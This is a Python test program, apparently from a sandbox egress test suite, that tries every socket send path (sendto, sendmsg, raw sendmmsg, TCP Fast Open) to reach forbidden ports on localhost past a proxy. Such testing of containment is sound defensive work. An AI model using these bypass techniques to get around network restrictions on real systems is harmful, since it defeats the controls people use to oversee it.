"""Try every way to give a destination while sending, on every available kind of socket.

sends FORBIDDEN_PORT FORBIDDEN_UDP_PORT, both on 127.0.0.1.
"""

from __future__ import annotations

import socket
import sys
from collections.abc import Callable
from contextlib import ExitStack

from support.attack_programs.outcome import Attempt, proxy, report_all, syscall

MSG_FASTOPEN = 0x20000000
TCP_FASTOPEN_CONNECT = 30
Address = tuple[str, int]


def connected() -> socket.socket:
    return socket.create_connection(proxy())


def tcp6() -> socket.socket:
    return socket.socket(socket.AF_INET6, socket.SOCK_STREAM)


def connecting() -> socket.socket:
    client = socket.socket()
    client.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    return client


SOCKETS: dict[str, Callable[[], socket.socket]] = {
    "tcp": socket.socket,
    "tcp connected": connected,
    "tcp6": tcp6,
    "tcp with TCP_FASTOPEN_CONNECT": connecting,
    "udp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
}


def sendmmsg(client: socket.socket, flags: int, address: Address) -> None:
    """Send one message to address by the raw call, which Python does not offer."""
    import ctypes
    import struct

    name = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", address[1], socket.inet_aton(address[0]))
    if client.family == socket.AF_INET6:
        mapped = bytes(10) + b"\xff\xff" + socket.inet_aton(address[0])
        name = struct.pack("=H", socket.AF_INET6) + struct.pack("!HI16sI", address[1], 0, mapped, 0)
    stored, payload = ctypes.create_string_buffer(name, len(name)), ctypes.create_string_buffer(b"leak")
    vector = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(payload), 4))
    # struct mmsghdr: struct msghdr (socket(7)) and the length sent
    header = struct.pack(
        "@PI4xPNPNi4x", ctypes.addressof(stored), len(name), ctypes.addressof(vector), 1, 0, 0, 0
    )
    message = ctypes.create_string_buffer(header + bytes(8))
    syscall("sendmmsg", client.fileno(), ctypes.addressof(message), 1, flags)


def send(make: Callable[[], socket.socket], call: str, flags: int, address: Address) -> Attempt:
    def attempt() -> None:
        with ExitStack() as stack:
            client = stack.enter_context(make())
            flags_now = flags | socket.MSG_NOSIGNAL
            to = (f"::ffff:{address[0]}", address[1]) if client.family == socket.AF_INET6 else address
            if call == "sendto":
                client.sendto(b"leak", flags_now, to)
            elif call == "sendmsg":
                client.sendmsg([b"leak"], [], flags_now, to)
            else:
                sendmmsg(client, flags_now, address)

    return attempt


def fast_open_connect(address: Address) -> Attempt:
    def attempt() -> None:
        with connecting() as client:
            client.connect(address)
            client.sendall(b"leak")

    return attempt


def main(tcp_port: int, udp_port: int) -> None:
    attempts: dict[str, Attempt] = {}
    for name, make in SOCKETS.items():
        port = udp_port if name == "udp" else tcp_port
        for call in ("sendto", "sendmsg", "sendmmsg"):
            attempts[f"{call} on {name}"] = send(make, call, 0, ("127.0.0.1", port))
            if name != "udp":
                attempts[f"{call}(MSG_FASTOPEN) on {name}"] = send(
                    make, call, MSG_FASTOPEN, ("127.0.0.1", port)
                )
    attempts["connect with TCP_FASTOPEN_CONNECT"] = fast_open_connect(("127.0.0.1", tcp_port))
    attempts["connect to the proxy with TCP_FASTOPEN_CONNECT"] = fast_open_connect(proxy())
    report_all(attempts)


if __name__ == "__main__":
    main(*map(int, sys.argv[1:]))
